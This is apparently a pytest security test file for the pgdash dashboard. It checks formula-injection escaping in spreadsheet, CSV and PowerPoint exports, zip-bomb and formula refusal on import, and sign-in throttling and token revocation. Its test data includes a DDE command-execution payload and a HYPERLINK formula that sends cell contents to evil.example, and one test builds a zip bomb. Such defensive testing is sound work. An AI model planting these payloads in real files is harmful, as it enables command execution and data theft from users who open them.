"""Safe to share, tried as an attacker would: formulas through every sheet and CSV pgdash
writes (LibreOffice included), control characters that could stop a download, zip bombs and
formulas in imported sheets, and sign-ins dodging the counters or outliving a reset.

The ledger tests run on SQLite and on a throwaway PostgreSQL (``ledger_url``).
"""

import contextlib
import csv
import io
import shutil
import subprocess
import zipfile
from datetime import date, timedelta

import pandas as pd
import pytest
from openpyxl import load_workbook
from supervision_fixtures import ledger_url  # noqa: F401 (a fixture)

from pgdash import cells
from pgdash.errors import PgdashError
from pgdash.export import data_files
from pgdash.supervision import auth, clock, db, excel, ledger, throttle
from pgdash.supervision.ledger import PlanTask

ON = date(2026, 7, 2)
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
    "＝1+1",  # full-width
    "  =1+1",
    "\u3000=1+1",  # ideographic space
    "a\r=1+1",  # a bare CR inside: must not start a row of its own
]
PLAN = [PlanTask(f"t01-{i:03d}", i, 1, "（一）", "logistics", p) for i, p in enumerate(PAYLOADS, 1)]


@pytest.fixture
def admin(ledger_url):  # noqa: F811
    auth.add_user("wang", "admin", "correct horse battery", ledger_url)
    ledger.sync(PLAN, ledger_url)
    return "wang"


def _formulas(wb) -> list[str]:
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if cells.formula_in(c)
    ]


@pytest.mark.parametrize("word", ["=1+1", '=HYPERLINK("http://evil.example","区")', "@A1"])
def test_the_title_rows_are_text_whatever_the_district_is(word):
    """The district's name comes from a document; the title must not become a formula."""
    heading = excel.Heading(word, 2026, word)
    buffer = io.BytesIO()
    excel.workbook([], ON, heading).save(buffer)
    wb = load_workbook(buffer)
    assert _formulas(wb) == []
    assert wb.active["A1"].value.startswith(word)


def test_the_csv_download_keeps_each_text_in_its_own_cell():
    frame = pd.DataFrame({"quote": PAYLOADS, "value": range(len(PAYLOADS))})
    text = data_files.to_csv(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(PAYLOADS) + 1, rows  # a CR or LF never starts a row
    assert [r[0] for r in rows[1:]] == [
        ("'" + p if cells.looks_like_formula(p) else p) for p in PAYLOADS
    ]


def test_look_alike_formulas_are_written_as_text():
    for value in ("＝1+1", "  =1+1", "\u3000=1", "\n=1", "＋1", "\0=1"):
        assert cells.looks_like_formula(value), repr(value)
        assert cells.csv_value(value) == "'" + value
    for value in ("区发展改革委", "1+1", "a=b", "", "2026-06-30"):
        assert not cells.looks_like_formula(value), value


def test_control_characters_never_stop_a_download(admin, ledger_url):  # noqa: F811
    """Word's manual line break (\\v) pasted into a note must not break everyone's 台账."""
    ledger.add_note("t01-001", ON, "第一行\v第二行\x1b完", "wang", ledger_url)
    ledger.save("t01-002", 1, {"responsible": "张\x07三"}, "wang", ledger_url)
    wb = load_workbook(io.BytesIO(excel.export_bytes(PLAN, ON, ledger_url)))
    ws = wb.active
    assert ws["K4"].value == "第一行\n第二行完"
    assert ws["G5"].value == "张三"
    frame = pd.DataFrame({"quote": ["甲\v乙", "\x1b=1+1"], "n": [1, 2]})
    xlsx = load_workbook(io.BytesIO(data_files.to_xlsx(frame))).active
    assert [c.value for c in xlsx["A"]] == ["quote", "甲\n乙", "=1+1"]
    assert _formulas(xlsx.parent) == []


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) is not installed")
def test_libreoffice_evaluates_nothing_pgdash_writes(admin, ledger_url, tmp_path):  # noqa: F811
    """The 台账 and the CSV download as LibreOffice reads them, formulas evaluated if any."""
    for i, payload in enumerate(PAYLOADS, 1):
        ledger.save(f"t01-{i:03d}", 1, {"lead_unit": payload.strip()[:200]}, "wang", ledger_url)
        ledger.add_note(f"t01-{i:03d}", ON, payload, "wang", ledger_url)
    heading = excel.Heading("=1+1", 2026, "@SUM(1,1)")
    (tmp_path / "ledger.xlsx").write_bytes(excel.export_bytes(PLAN, ON, ledger_url, heading))
    frame = pd.DataFrame({"quote": PAYLOADS})
    (tmp_path / "facts.csv").write_bytes(data_files.to_csv(frame))
    home = tmp_path / "home"
    to_csv = "csv:Text - txt - csv (StarCalc):44,34,76"  # UTF-8
    csv_in = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"  # formulas evaluated
    for source, options in (("ledger.xlsx", []), ("facts.csv", [f"--infilter={csv_in}"])):
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{home}", "--headless", *options,
             "--convert-to", to_csv, "--outdir", str(tmp_path / "out"), str(tmp_path / source)],
            check=True, capture_output=True, timeout=180,
        )  # fmt: skip
    shown = {p.stem: p.read_text("utf-8") for p in (tmp_path / "out").glob("*.csv")}
    facts = list(csv.reader(io.StringIO(shown.pop("facts"), newline="")))
    wanted = [[cells.csv_value(p).replace("\r", "\n")] for p in PAYLOADS]  # LO keeps the '
    assert facts == [["quote"], *wanted]
    ((_, text),) = shown.items()
    sheet = list(csv.reader(io.StringIO(text, newline="")))
    assert sheet[0][0] == "=1+12026年重点任务督办台账"  # the title as text, not 2
    assert "制表：@SUM(1,1)" in sheet[1][0]
    held = ledger.rows(PLAN, ON, ledger_url)  # what LibreOffice shows is what the ledger holds
    for line, row in zip(sheet[3:], held, strict=True):
        shown_as = [v.replace("\r", "\n") for v in (row.text, row.lead_unit, row.note.text)]
        assert [line[3], line[4], line[10]] == shown_as, line


# --- import ------------------------------------------------------------------------------


def _repack(data: bytes, change) -> bytes:
    """The .xlsx ``data`` with its parts passed through ``change(name, bytes)``."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for part in source.infolist():
            archive.writestr(part, change(part.filename, source.read(part.filename)))
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(admin, ledger_url, tmp_path):  # noqa: F811
    """Under 10 MB packed, a sheet of one 64 MB cell: refused from the zip's directory."""
    cell = b'<row r="9"><c r="K9" t="inlineStr"><is><t>' + b"A" * (64 * 2**20)
    cell += b"</t></is></c></row></sheetData>"

    def bomb(name: str, data: bytes) -> bytes:
        return data.replace(b"</sheetData>", cell) if name.endswith("sheet1.xml") else data

    packed = _repack(excel.export_bytes(PLAN, ON, ledger_url), bomb)
    assert len(packed) < excel.MAX_BYTES
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(packed)
    with pytest.raises(PgdashError, match="unpacks to more than 50 MB"):
        excel.import_file(path, "wang", PLAN, url=ledger_url)
    with pytest.raises(PgdashError, match="unpacks to more than 50 MB"):
        excel.import_file(io.BytesIO(packed), "wang", PLAN, url=ledger_url)


@pytest.mark.parametrize(
    ("cell", "xml"),
    [
        ("B5", b'<f t="shared" ref="B5:B6" si="0">1+1</f><v>2</v>'),  # a shared formula
        ("B4", b'<f t="array" ref="B4">1+0</f><v>1</v>'),
        ("E4", b'<f>"a"&amp;"b"</f><v>ab</v>'),  # a cached text result
        ("E4", b"<f>[1]Sheet1!A1</f><v>x</v>"),  # an external link
    ],
)
def test_formulas_with_cached_values_are_refused(admin, ledger_url, cell, xml):  # noqa: F811
    exported = excel.export_bytes(PLAN, ON, ledger_url)

    def change(name: str, data: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return data
        start = data.index(b'<c r="%s"' % cell.encode())
        end = data.index(b"</c>", start) + len(b"</c>")
        kind = b' t="str"' if b"<v>x" in xml or b"<v>ab" in xml else b""
        return data[:start] + b'<c r="%s"%s>' % (cell.encode(), kind) + xml + b"</c>" + data[end:]

    before = [(r.task_id, r.lead_unit, r.progress) for r in ledger.rows(PLAN, ON, ledger_url)]
    with pytest.raises(PgdashError, match=f"row {cell[1:]}, column {cell[0]}: holds a formula"):
        excel.import_file(io.BytesIO(_repack(exported, change)), "wang", PLAN, url=ledger_url)
    after = [(r.task_id, r.lead_unit, r.progress) for r in ledger.rows(PLAN, ON, ledger_url)]
    assert after == before


# --- sign-in -----------------------------------------------------------------------------


def _try(url: str, name: str, password: str, client: str = "", now=None) -> str:
    try:
        auth.sign_in(name, password, url, now or clock.now_utc(), client)
    except auth.SignInError as exc:
        return "wait" if exc.wait else "wrong"
    except Exception as exc:  # any other failure is reported by name
        return f"{type(exc).__name__}: {exc}"
    return "in"


@pytest.mark.parametrize(
    "name", ["zhang\x00", "ZHANG", "ｚｈａｎｇ", "zhang\u200b", "z" * 100_000, "张\x00伟"]
)
def test_odd_names_are_refused_plainly_and_never_let_in(ledger_url, name):  # noqa: F811
    auth.add_user("zhang", "editor", "the right password", ledger_url)
    assert _try(ledger_url, name, "the right password", "10.0.0.1") == "wrong"
    assert _try(ledger_url, " zhang\u3000", "the right password", "10.0.0.1") == "in"


def test_case_variants_of_a_name_share_its_counters(ledger_url):  # noqa: F811
    auth.add_user("zhang", "editor", "the right password", ledger_url)
    variants = ["ZHANG", "Zhang", " zhang", "zhang ", "zHANG"]
    now = clock.now_utc()
    results = [_try(ledger_url, v, "guess", "10.0.0.9", now) for v in variants * 2]
    assert results[: throttle.PAIR.free] == ["wrong"] * throttle.PAIR.free
    assert set(results[throttle.PAIR.free :]) == {"wait"}


def test_an_ipv6_network_is_one_client(ledger_url):  # noqa: F811
    """A subscriber's /64 holds more addresses than any counter: it is counted as one."""
    names = [f"user{i}" for i in range(throttle.CLIENT.free + 1)]
    now = clock.now_utc()
    results = [
        _try(ledger_url, name, "guess", f"2001:db8:1:2:{i:x}::{i + 1:x}", now)
        for i, name in enumerate(names)
    ]
    assert results[-1] == "wait", results
    assert throttle.client_key("2001:db8:1:2:ffff::1") == "2001:db8:1:2::/64"
    assert throttle.client_key("::ffff:10.0.0.1") == "10.0.0.1"
    assert throttle.client_key("10.0.0.1") == "10.0.0.1"


def test_a_reset_password_or_a_disabled_account_ends_its_browser_tokens(ledger_url):  # noqa: F811
    auth.add_user("zhang", "editor", "the right password", ledger_url)
    auth.add_user("li", "editor", "another password", ledger_url)
    now = clock.now_utc()
    token = auth.issue_token(auth.sign_in("zhang", "the right password", ledger_url), ledger_url)
    other = auth.issue_token(auth.sign_in("li", "another password", ledger_url), ledger_url)
    auth.add_user("zhang", "editor", "a new password!", ledger_url)  # reset: stolen token ends
    assert auth.resume(token, ledger_url, now) is None
    token = auth.issue_token(auth.sign_in("zhang", "a new password!", ledger_url), ledger_url)
    auth.disable_user("zhang", ledger_url)
    auth.add_user("zhang", "editor", "a new password!", ledger_url)  # enabled again
    assert auth.resume(token, ledger_url, now) is None  # the old sign-in does not come back
    assert auth.resume(other, ledger_url, now) is not None  # another account is untouched


def test_a_sign_in_ends_once_its_browser_token_is_revoked(ledger_url):  # noqa: F811
    """Signing out in one tab revokes the browser's token: the sign-in of another open tab
    of that browser (resumed from it), or of the tab that signed in, ends at its next run."""
    auth.add_user("zhang", "editor", "the right password", ledger_url)
    signed = auth.sign_in("zhang", "the right password", ledger_url)
    token = auth.issue_token(signed, ledger_url)
    here, other_tab = auth.holding(signed, token), auth.resume(token, ledger_url)
    assert auth.still_signed_in(here, ledger_url) == signed
    assert auth.still_signed_in(other_tab, ledger_url) == signed
    auth.revoke(token, ledger_url)
    assert auth.still_signed_in(here, ledger_url) is None
    assert auth.still_signed_in(other_tab, ledger_url) is None
    assert auth.still_signed_in(signed, ledger_url) == signed  # one holding no token: as before


def test_expired_browser_tokens_are_dropped_at_the_next_sign_in(ledger_url):  # noqa: F811
    from sqlalchemy import select

    from pgdash.supervision.models import BrowserSession

    auth.add_user("zhang", "editor", "the right password", ledger_url)
    signed = auth.sign_in("zhang", "the right password", ledger_url)
    then = auth.SignedIn(signed.name, signed.role, clock.now_utc() - timedelta(minutes=1))
    auth.issue_token(then, ledger_url)  # a sign-in that has ended, never signed out
    kept = auth.issue_token(signed, ledger_url)
    with db.session(ledger_url) as s:
        left = s.scalars(select(BrowserSession.token_hash)).all()
    assert left == [auth._digest(kept)]


def test_the_client_address_is_the_peer_unless_a_local_proxy_forwards_it(monkeypatch):
    from types import SimpleNamespace

    from pgdash.app import signin

    class Headers:
        def __init__(self, forwarded):
            self.forwarded = forwarded

        def get_all(self, name):
            return self.forwarded if name.lower() == "x-forwarded-for" else []

    def seen(peer, forwarded):
        context = SimpleNamespace(ip_address=peer, headers=Headers(forwarded))
        monkeypatch.setattr(signin, "st", SimpleNamespace(context=context))
        return signin.client_address()

    assert seen("203.0.113.7", ["127.0.0.1", "10.9.9.9"]) == "203.0.113.7"  # direct: no spoof
    assert seen(None, ["1.2.3.4, 198.51.100.2"]) == "198.51.100.2"  # the hop HAProxy added
    assert seen("127.0.0.1", []) == "127.0.0.1"


def test_the_journal_of_the_ledger_is_private(tmp_path, monkeypatch):
    """While a write is under way the SQLite journal holds the hashes too: 0600."""
    import os
    import stat

    from pgdash.supervision import db

    monkeypatch.setenv("PGDASH_STATE", str(tmp_path / "state"))
    monkeypatch.delenv("PGDASH_DB_URL", raising=False)
    old = os.umask(0o022)
    try:
        auth.add_user("zhang", "admin", "the right password")
        with db.locked() as conn:
            conn.exec_driver_sql("UPDATE sv_user SET role = 'editor'")
            journals = [p for p in (tmp_path / "state").iterdir() if p.name != db.DB_FILE]
            modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in journals}
    finally:
        os.umask(old)
        db.dispose_all()
    assert modes and set(modes.values()) == {0o600}, modes


def test_a_chart_s_embedded_sheet_holds_its_labels_as_text():
    """PowerPoint's 编辑数据 opens the workbook behind a native chart: no label is a formula."""
    from pptx import Presentation

    from pgdash.export import pptx as deck

    bars = pd.DataFrame(
        {
            "measure": ['=HYPERLINK("http://evil.example","区")', "=cmd|' /C calc'!A0"],
            "label": ["2023年 目标", "2022年 实绩"],
            "value": [1.0, 2.0],
            "role": ["target", "result"],
            "role_label": ["=1+1", "@SUM(1)"],
            "text": ["1", "2"],
        }
    )
    show = Presentation()
    slide = show.slides.add_slide(show.slide_layouts[6])
    deck._bars(slide, None, bars, deck.Box(0, 0, deck.Inches(6), deck.Inches(4)), "zh")
    (chart,) = [shape.chart for shape in slide.shapes if shape.has_chart]
    book = load_workbook(io.BytesIO(chart.part.chart_workbook.xlsx_part.blob))
    assert _formulas(book) == []
    assert book.active["A2"].value.startswith("=HYPERLINK")


@pytest.fixture
def quick_hashes(monkeypatch):
    """Cheap argon2 parameters: these tests sign in dozens of times."""
    from argon2 import PasswordHasher

    cheap = PasswordHasher(time_cost=1, memory_cost=64, parallelism=1)
    monkeypatch.setattr(auth, "_hasher", cheap)
    monkeypatch.setattr(auth, "_DUMMY", cheap.hash("not a password of anyone"))


def test_an_office_behind_one_address_is_not_slowed_by_its_own_sign_ins(
    ledger_url,  # noqa: F811
    quick_hashes,
):
    """Clerks behind one NAT sign in all day: a right password is not a failure."""
    auth.add_user("zhang", "editor", "the right password", ledger_url)
    auth.add_user("li", "editor", "another password", ledger_url)
    now = clock.now_utc()
    for i in range(throttle.CLIENT.free + 10):
        name, password = ("zhang", "the right password") if i % 2 else ("li", "another password")
        assert _try(ledger_url, name, password, "198.51.100.7", now) == "in", i
    assert throttle.failures("client:198.51.100.7", ledger_url) == 0


def test_failures_are_forgotten_after_a_quiet_day(ledger_url, quick_hashes):  # noqa: F811
    start = clock.now_utc()
    for i in range(throttle.CLIENT.free + 5):  # typos over a day from one office address
        at = start + timedelta(minutes=20 * i)  # each after the longest wait
        assert _try(ledger_url, f"clerk{i}", "typo", "198.51.100.7", at) == "wrong"
    later = at + throttle.FORGET_AFTER
    assert _try(ledger_url, "clerk0", "typo", "198.51.100.7", later) == "wrong"
    assert _try(ledger_url, "clerk1", "typo", "198.51.100.7", later) == "wrong"  # no wait
    assert throttle.failures("client:198.51.100.7", ledger_url) == 2
    # the names quiet for a day are gone from the table, not only reset
    assert throttle.failures("name:clerk5", ledger_url) == 0
    assert throttle.failures("pair:clerk5|198.51.100.7", ledger_url) == 0


def test_two_offices_back_after_a_quiet_weekend_sign_in_at_once(ledger_url, monkeypatch):  # noqa: F811
    """Each try drops the other's forgotten counters while holding its own: neither may wait
    on the other (PostgreSQL would call it a deadlock and refuse one sign-in)."""
    import threading

    if ledger_url.startswith("sqlite"):
        pytest.skip("SQLite lets one writer in at a time; the race needs two writers")

    then = clock.now_utc() - timedelta(days=3)
    throttle.reserve("alice", "198.51.100.1", then, ledger_url)
    throttle.reserve("bob", "198.51.100.2", then, ledger_url)
    both_locked = threading.Barrier(2, timeout=5)
    real_delete = throttle.delete

    def delete_once_both_hold_their_rows(table):
        with contextlib.suppress(threading.BrokenBarrierError):
            both_locked.wait()
        return real_delete(table)

    monkeypatch.setattr(throttle, "delete", delete_once_both_hold_their_rows)
    now, errors = clock.now_utc(), []

    def sign_in(name: str, client: str) -> None:
        try:
            throttle.reserve(name, client, now, ledger_url)
        except PgdashError as exc:
            errors.append(str(exc))

    tries = [
        threading.Thread(target=sign_in, args=pair)
        for pair in (("alice", "198.51.100.1"), ("bob", "198.51.100.2"))
    ]
    for thread in tries:
        thread.start()
    for thread in tries:
        thread.join(30)
    assert not errors
    assert [throttle.failures(f"name:{n}", ledger_url) for n in ("alice", "bob")] == [1, 1]


def test_an_error_cell_is_refused_not_imported_as_text(admin, ledger_url):  # noqa: F811
    """A clerk deletes a column a formula used: #REF! is not a lead unit's name."""
    exported = excel.export_bytes(PLAN, ON, ledger_url)

    def change(name: str, data: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return data
        start = data.index(b'<c r="E4"')
        end = data.index(b">", start) + 1
        if data[end - 2 : end] != b"/>":
            end = data.index(b"</c>", start) + len(b"</c>")
        return data[:start] + b'<c r="E4" t="e"><v>#REF!</v></c>' + data[end:]

    with pytest.raises(PgdashError, match="row 4, column E: holds the error #REF!"):
        excel.import_file(io.BytesIO(_repack(exported, change)), "wang", PLAN, url=ledger_url)


def test_guesses_sent_at_once_check_few_passwords_at_a_time(ledger_url, monkeypatch):  # noqa: F811
    """Each argon2 check takes 64 MiB: twenty at once must not take 1.3 GB."""
    import threading
    import time
    from concurrent.futures import ThreadPoolExecutor
    from types import SimpleNamespace

    running, most, lock = [0], [0], threading.Lock()
    real = auth._hasher.verify

    def watched(hashed, password):
        with lock:
            running[0] += 1
            most[0] = max(most[0], running[0])
        try:
            time.sleep(0.05)  # long enough for the others to pile up
            return real(hashed, password)
        finally:
            with lock:
                running[0] -= 1

    hasher = auth._hasher
    watching = SimpleNamespace(verify=watched, check_needs_rehash=hasher.check_needs_rehash)
    monkeypatch.setattr(auth, "_hasher", watching)
    db.ready(ledger_url)
    now = clock.now_utc()
    with ThreadPoolExecutor(max_workers=12) as pool:
        tries = [(f"name{i}", f"198.51.100.{i}") for i in range(12)]
        results = list(pool.map(lambda t: _try(ledger_url, t[0], "guess", t[1], now), tries))
    assert results == ["wrong"] * 12
    assert 1 <= most[0] <= auth.CHECKS_AT_ONCE


def test_first_use_from_many_sessions_at_once_migrates_once(ledger_url):  # noqa: F811
    """Right after a deploy several browsers open the page at once: none sees an error."""
    from concurrent.futures import ThreadPoolExecutor

    db.dispose_all()
    with ThreadPoolExecutor(max_workers=6) as pool:
        done = list(pool.map(lambda _: _try(ledger_url, "zhang", "guess", "", None), range(6)))
    assert set(done) <= {"wrong", "wait"}, done
